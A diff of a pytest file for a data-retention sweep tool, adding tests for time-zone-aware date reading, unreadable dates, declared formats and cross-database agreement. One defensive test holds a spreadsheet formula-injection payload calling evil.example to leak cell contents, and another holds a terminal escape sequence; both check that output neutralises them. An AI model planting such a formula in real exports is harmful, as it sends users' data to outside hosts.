@@ -6,8 +6,9 @@ import csv
 import io
 import json
 import sqlite3
-from datetime import date
+from datetime import date, datetime, timezone
 from pathlib import Path
+from zoneinfo import ZoneInfo
 
 import pytest
 from hypothesis import given
@@ -22,8 +23,8 @@ from rekisteri.cli import app  # noqa: E402
 from rekisteri.errors import RekisteriError  # noqa: E402
 from rekisteri.loading import load_register  # noqa: E402
 from rekisteri.retention_sweep import (  # noqa: E402
+    DateReader,
     add_period,
-    as_date,
     expires_on,
     latest_expired_start,
     sweep,
@@ -79,20 +80,47 @@ def test_the_last_expired_start_splits_the_dates(
     assert passed == (start <= last)
 
 
+HELSINKI = ZoneInfo("Europe/Helsinki")
+
+
 @pytest.mark.parametrize(
     ("value", "expected"),
     [
         ("2023-04-06", date(2023, 4, 6)),
         ("2023-04-06 12:00:00", date(2023, 4, 6)),
+        ("2023-04-06T23:30:00", date(2023, 4, 6)),  # naive: read in the mapping's time zone
+        ("2023-04-06T21:30:00Z", date(2023, 4, 7)),  # 00:30 in Helsinki
+        ("2023-04-06 23:30:00+02:00", date(2023, 4, 7)),  # summer time: 00:30 at +03:00
+        (" 2023-04-06 ", date(2023, 4, 6)),
         (date(2023, 4, 6), date(2023, 4, 6)),
-        ("6.4.2023", None),
-        ("", None),
+        (datetime(2023, 4, 6, 23, 30), date(2023, 4, 6)),
+        (datetime(2023, 4, 6, 21, 30, tzinfo=timezone.utc), date(2023, 4, 7)),
         (None, None),
-        (20230406, None),
     ],
 )
 def test_dates_as_stores_hold_them(value: object, expected: date | None) -> None:
-    assert as_date(value) == expected
+    assert DateReader(None, HELSINKI)(value) == expected
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["31.13.2020", "6.4.2023", "eilen", "", "2023-02-30", "2023-04-06x12:00", "20230406",
+     "2023-W14-4", 20230406, 1680739200, 45022.5, True, b"2023-04-06"],
+)  # fmt: skip
+def test_a_value_that_is_not_a_date_is_never_one(value: object) -> None:
+    with pytest.raises(ValueError):
+        DateReader(None, HELSINKI)(value)
+
+
+def test_a_declared_format_reads_exactly_that_format() -> None:
+    finnish = DateReader("%d.%m.%Y", HELSINKI)
+    assert finnish("6.4.2023") == finnish("06.04.2023") == date(2023, 4, 6)
+    assert finnish(date(2023, 4, 6)) == date(2023, 4, 6)  # the store's own date type says it
+    for value in ("31.13.2020", "2023-04-06", "6.4.23", "eilen", ""):
+        with pytest.raises(ValueError):
+            finnish(value)
+    stamped = DateReader("%d.%m.%Y %H:%M %z", HELSINKI)
+    assert stamped("6.4.2023 23:30 +0000") == date(2023, 4, 7)
 
 
 def test_add_period_counts_calendar_months() -> None:
@@ -187,19 +215,166 @@ def test_people_without_a_date_are_counted_not_reported(demo_path: Path) -> None
     assert report["appointments"].undated == 1
 
 
-def test_rows_with_a_date_that_is_not_one_are_counted_not_reported(demo_path: Path) -> None:
+def _execute(demo_path: Path, *statements: str) -> None:
     connection = sqlite3.connect(demo_path.with_name("asiakkaat.sqlite"))
-    connection.execute(
-        "INSERT INTO feedback (client_id, given_at, rating, comment, may_publish) "
-        "VALUES (7, '1.1.2020', 3, 'Vanha palaute', FALSE)"
-    )
+    for statement in statements:
+        connection.execute(statement)
     connection.commit()
     connection.close()
-    feedback = by_category(sweep(load_register(demo_path), as_of=D("2025-06-01")))["feedback"]
-    assert feedback.undated == 1 and [s.key for s in feedback.due] == [3, 20]
 
 
-def test_both_ways_of_reading_dates_agree(demo_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+NOT_DATES = ["31.13.2020", "eilen", "", 20200101, "1.1.2020", "2099-02-30", "2030-01-01 24:00:00"]
+
+
+@pytest.mark.parametrize("value", NOT_DATES, ids=repr)
+def test_a_row_whose_date_is_not_one_is_reported_never_due(demo_path: Path, value: object) -> None:
+    _execute(demo_path, "INSERT INTO feedback (client_id, given_at, rating, comment, may_publish) "
+             f"VALUES (7, {value!r}, 3, 'Vanha palaute', FALSE)")  # fmt: skip
+    report = sweep(load_register(demo_path), as_of=D("2025-06-01"))
+    feedback = by_category(report)["feedback"]
+    assert [s.key for s in feedback.due] == [3, 20]  # client 7's undated row is not among them
+    assert feedback.undecided == 1 and feedback.undated == 0
+    [unreadable] = report.unreadable
+    assert (unreadable.table, unreadable.column, unreadable.rows) == ("feedback", "given_at", 1)
+    assert unreadable.example == repr(value)
+
+
+@pytest.mark.parametrize("value", NOT_DATES, ids=repr)
+def test_a_person_whose_date_is_not_one_is_never_expired(demo_path: Path, value: object) -> None:
+    # Client 13's latest readable date is the invoice of 2023-12-29: two years end on
+    # 2025-12-29. An appointment whose time cannot be read could be later.
+    _execute(demo_path, "INSERT INTO appointments (client_id, starts_at, minutes, service, status)"
+             f" VALUES (13, {value!r}, 60, 'x', 'x'), (13, {value!r}, 60, 'x', 'x')")  # fmt: skip
+    report = sweep(load_register(demo_path), as_of=D("2025-12-30"))
+    contact = by_category(report)["contact-details"]
+    assert contact.due == [] and contact.undecided == 1
+    assert by_category(report)["appointments"].due == []
+    [unreadable] = report.unreadable
+    assert (unreadable.table, unreadable.column, unreadable.rows) == (
+        "appointments",
+        "starts_at",
+        2,
+    )
+    assert unreadable.example == repr(value)
+    # A person decided by a readable later date needs no guess: client 1 is active.
+    assert 1 not in {s.key for s in contact.due}
+
+
+def test_unreadable_dates_are_told_in_every_output(demo_path: Path) -> None:
+    _execute(demo_path, "INSERT INTO feedback (client_id, given_at, rating, comment, may_publish) "
+             "VALUES (7, '31.13.2020', 3, 'x', FALSE), (8, 'eilen', 3, 'y', FALSE)")  # fmt: skip
+    code, output = run("retention", demo_path, "--as-of", "2025-06-01", "--lang", "en")
+    assert code == 0, output
+    assert (
+        "feedback.given_at: 2 rows hold a value that is not a date (e.g. '31.13.2020'); "
+        "expected ISO 8601 (YYYY-MM-DD)" in output
+    )
+    assert "2 without a readable date: not judged, check by hand" in output
+    code, output = run("retention", demo_path, "--as-of", "2025-06-01", "--lang", "fi")
+    assert code == 0 and "feedback.given_at: 2 riviä, joiden arvo ei ole päivämäärä" in output
+    code, output = run("retention", demo_path, "--as-of", "2025-06-01", "--format", "json")
+    data = json.loads(output)
+    assert data["unreadable"] == [
+        {"table": "feedback", "column": "given_at", "rows": 2, "example": "'31.13.2020'",
+         "format": "ISO 8601"}
+    ]  # fmt: skip
+    assert next(c for c in data["categories"] if c["category"] == "feedback")["undecided"] == 2
+
+
+def test_an_escape_in_a_store_value_does_not_reach_the_terminal(demo_path: Path) -> None:
+    _execute(demo_path, "INSERT INTO feedback (client_id, given_at, rating, comment, may_publish) "
+             "VALUES (7, char(27) || '[2J', 3, 'x', FALSE)")  # fmt: skip
+    code, output = run("retention", demo_path, "--as-of", "2025-06-01", "--lang", "en")
+    assert code == 0 and "\x1b" not in output
+    assert "(e.g. '\\x1b[2J')" in output
+
+
+def test_time_zones_move_a_date_across_midnight(demo_path: Path) -> None:
+    # Client 3's feedback was given at 01:30 on 7 April in Helsinki (22:30 UTC on the 6th).
+    _execute(demo_path, "UPDATE feedback SET given_at = '2023-04-06T22:30:00Z' WHERE client_id = 3")
+    register = load_register(demo_path)
+    assert [
+        s.key for s in by_category(sweep(register, as_of=D("2025-04-07")))["feedback"].due
+    ] == []
+    due = by_category(sweep(register, as_of=D("2025-04-08")))["feedback"].due
+    assert [(s.key, s.counted_from) for s in due] == [(3, D("2023-04-07"))]
+    # The same for a person's latest date: 00:30 on 30 December in Helsinki.
+    _execute(demo_path, "INSERT INTO appointments (client_id, starts_at, minutes, service, status)"
+             " VALUES (13, '2023-12-29T22:30:00+00:00', 60, 'x', 'x')")  # fmt: skip
+    assert by_category(sweep(register, as_of=D("2025-12-30")))["contact-details"].due == []
+    due = by_category(sweep(register, as_of=D("2025-12-31")))["contact-details"].due
+    assert [(s.key, s.counted_from) for s in due] == [(13, D("2023-12-30"))]
+
+
+def test_a_declared_format_reads_the_store_as_written(demo_path: Path) -> None:
+    _execute(demo_path, "UPDATE feedback SET given_at = ltrim(strftime('%d', given_at), '0') || "
+             "'.' || ltrim(strftime('%m', given_at), '0') || '.' || strftime('%Y', given_at)")  # fmt: skip
+    register = load_register(demo_path)
+    feedback = by_category(sweep(register, as_of=D("2025-06-01")))["feedback"]
+    assert feedback.due == [] and feedback.undecided == 11  # not ISO: nothing is guessed
+    text = demo_path.read_text(encoding="utf-8").replace(
+        'row_date = "given_at"', 'row_date = "given_at"\nformat = "%d.%m.%Y"'
+    )
+    demo_path.write_text(text, encoding="utf-8")
+    report = sweep(load_register(demo_path), as_of=D("2025-06-01"))
+    feedback = by_category(report)["feedback"]
+    assert [(s.key, s.counted_from) for s in feedback.due] == [
+        (3, D("2023-04-06")),
+        (20, D("2023-04-29")),
+    ]
+    assert feedback.undecided == 0 and report.unreadable == []
+
+
+def test_a_format_per_column(demo_path: Path) -> None:
+    _execute(demo_path, "UPDATE orders SET ordered_at = strftime('%d.%m.%Y', ordered_at)")
+    old = 'latest_of = ["appointments.starts_at", "contacts.contacted_at", "orders.ordered_at", '
+    text = demo_path.read_text(encoding="utf-8")
+    assert old in text
+    text = text.replace(
+        "[store.retention.client-relationship]\n",
+        '[store.retention.client-relationship]\nformat = { "orders.ordered_at" = "%d.%m.%Y" }\n',
+    )
+    demo_path.write_text(text, encoding="utf-8")
+    contact = by_category(sweep(load_register(demo_path), as_of=D("2025-12-30")))["contact-details"]
+    assert [(s.key, s.counted_from) for s in contact.due] == [(13, D("2023-12-29"))]
+
+
+@pytest.mark.parametrize(
+    ("declared", "message"),
+    [
+        ('"%d.%m.%y"', "two-digit year"),
+        ('"DD.MM.YYYY"', "not a date format"),
+        ('"%m/%Y"', "not a date format"),
+        (
+            '{ "feedback.givn_at" = "%d.%m.%Y" }',
+            "'feedback.givn_at' is not a column this rule reads",
+        ),
+    ],
+)
+def test_a_bad_format_is_a_located_error(demo_path: Path, declared: str, message: str) -> None:
+    text = demo_path.read_text(encoding="utf-8").replace(
+        'row_date = "given_at"', f'row_date = "given_at"\nformat = {declared}'
+    )
+    demo_path.write_text(text, encoding="utf-8")
+    with pytest.raises(RekisteriError) as caught:
+        load_register(demo_path)
+    rendered = str(caught.value)
+    assert message in rendered and "store.retention.feedback.format" in rendered, rendered
+    assert "register.toml:" in rendered
+
+
+@pytest.mark.parametrize("odd", [False, True], ids=["clean", "with dates that are not"])
+def test_both_ways_of_reading_dates_agree(
+    demo_path: Path, monkeypatch: pytest.MonkeyPatch, odd: bool
+) -> None:
+    if odd:
+        _execute(
+            demo_path,
+            "INSERT INTO appointments (client_id, starts_at, minutes, service, status) VALUES "
+            "(13, 'eilen', 60, 'x', 'x'), (4, '', 60, 'x', 'x'), (5, 2023, 60, 'x', 'x'), "
+            "(6, '2023-06-01T23:30:00-05:00', 60, 'x', 'x')",
+            "UPDATE clients SET created_at = '1.1.2020' WHERE id IN (7, 8)",
+        )
     register = load_register(demo_path)
     for as_of in ("2025-06-01", "2025-12-30", "2026-06-01", "2030-01-01"):
         by_key = sweep(register, as_of=D(as_of)).to_dict()
@@ -232,6 +407,21 @@ def test_csv_and_json(demo_path: Path) -> None:
         "contact-details",
         "next-of-kin",
     ]
+
+
+def test_csv_keys_are_text_in_a_spreadsheet() -> None:
+    # Keys are the store's own: a text key can be anything, a number stays a number.
+    report = retention_sweep.RetentionReport(as_of=D("2025-06-01"), store="x")
+    category = retention_sweep.CategorySweep("feedback", "feedback", "P2Y", "row", False)
+    day = D("2023-04-06")
+    keys = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "@SUM(A1)", "\tx", "\rx", -5, "a-1"]
+    category.due = [retention_sweep.SubjectDue(key, 1, day, day) for key in keys]
+    report.categories.append(category)
+    rows = list(csv.DictReader(io.StringIO(report.to_csv(), newline="")))
+    assert [row["subject"] for row in rows] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1)', "'+1", "'@SUM(A1)", "'\tx", "'\rx", "-5", "a-1"
+    ]
+    assert json.loads(report.to_json())["categories"][0]["due"][0]["subject"] == keys[0]
 
 
 # --- mapping mistakes -----------------------------------------------------------------------------
@@ -270,6 +460,11 @@ def test_an_undeclared_rule_is_a_validation_error(demo_path: Path) -> None:
             'latest_of = ["clients.birth_date"]',
             'latest_of = ["collection_cases.opened_at"]',
             "cannot tell which column of 'collection_cases' holds the subject's key",
+        ),
+        (
+            'row_date = "given_at"',
+            'row_date = "given_at"\nformat = { "feedbak.given_at" = "%d.%m.%Y" }',
+            "'feedbak.given_at' is not a column this rule reads",
         ),
     ],
 )
@@ -353,5 +548,63 @@ def test_mariadb_sweep_matches_sqlite(
     mysql_execute(mysql_database, STORE_SQL.read_text(encoding="utf-8"))
     monkeypatch.setenv("REKISTERI_STORE_URL", mysql_database)
     found = sweep(register, as_of=D("2026-01-01")).to_dict()
+    expected.pop("store"), found.pop("store")
+    assert found == expected
+
+
+# Dates kept as text on a server database, with values that are not dates, and times with a
+# zone: the server reads them as SQLite does.
+ODD_ROWS = (
+    "INSERT INTO feedback (id, client_id, given_at, rating, comment, may_publish) VALUES "
+    "(90, 7, '31.13.2020', 3, 'x', FALSE), (91, 8, 'eilen', 3, 'y', FALSE), "
+    "(92, 9, '2020-01-01', 3, 'z', FALSE)"
+)
+LATE_EVENING = (
+    "INSERT INTO appointments (id, client_id, starts_at, minutes, service, status) "
+    "VALUES (900, 13, '2023-12-29 20:00:00', 60, 'x', 'x')"
+)
+
+
+@pytest.mark.parametrize("as_of", ["2025-06-01", "2025-12-30"])
+def test_postgresql_reads_text_dates_and_zones_as_sqlite_does(
+    demo_path: Path, pg_database: str, monkeypatch: pytest.MonkeyPatch, as_of: str
+) -> None:
+    _execute(demo_path, ODD_ROWS, LATE_EVENING)
+    register = load_register(demo_path)
+    expected = sweep(register, as_of=D(as_of)).to_dict()
+    assert expected["unreadable"][0]["rows"] == 2
+    if as_of == "2025-12-30":  # client 13's latest is now the appointment of 29 December
+        contact = next(c for c in expected["categories"] if c["category"] == "contact-details")
+        assert [s["subject"] for s in contact["due"]] == [13]
+    pg_execute(pg_database, STORE_SQL.read_text(encoding="utf-8"))
+    name = pg_database.rpartition("/")[2].partition("?")[0]
+    pg_execute(
+        pg_database,
+        "ALTER TABLE feedback ALTER COLUMN given_at TYPE text;"
+        "ALTER TABLE appointments ALTER COLUMN starts_at TYPE timestamptz "
+        "USING starts_at AT TIME ZONE 'Europe/Helsinki';"
+        f"SET TIME ZONE 'Europe/Helsinki'; {ODD_ROWS}; {LATE_EVENING};"
+        # The sweep's own sessions count days in Tokyo: a day's first moment there is 17:00
+        # of the day before in Helsinki, so the day it compares with must carry its zone.
+        f"ALTER DATABASE \"{name}\" SET timezone TO 'Asia/Tokyo'",
+    )
+    monkeypatch.setenv("REKISTERI_STORE_URL", pg_database)
+    found = sweep(register, as_of=D(as_of)).to_dict()
+    expected.pop("store"), found.pop("store")
+    assert found == expected
+
+
+def test_mariadb_reads_text_dates_as_sqlite_does(
+    demo_path: Path, mysql_database: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from conftest_store import mysql_execute
+
+    _execute(demo_path, ODD_ROWS)
+    register = load_register(demo_path)
+    expected = sweep(register, as_of=D("2025-06-01")).to_dict()
+    mysql_execute(mysql_database, STORE_SQL.read_text(encoding="utf-8"))
+    mysql_execute(mysql_database, "ALTER TABLE feedback MODIFY given_at TEXT;\n" + ODD_ROWS + ";")
+    monkeypatch.setenv("REKISTERI_STORE_URL", mysql_database)
+    found = sweep(register, as_of=D("2025-06-01")).to_dict()
     expected.pop("store"), found.pop("store")
     assert found == expected
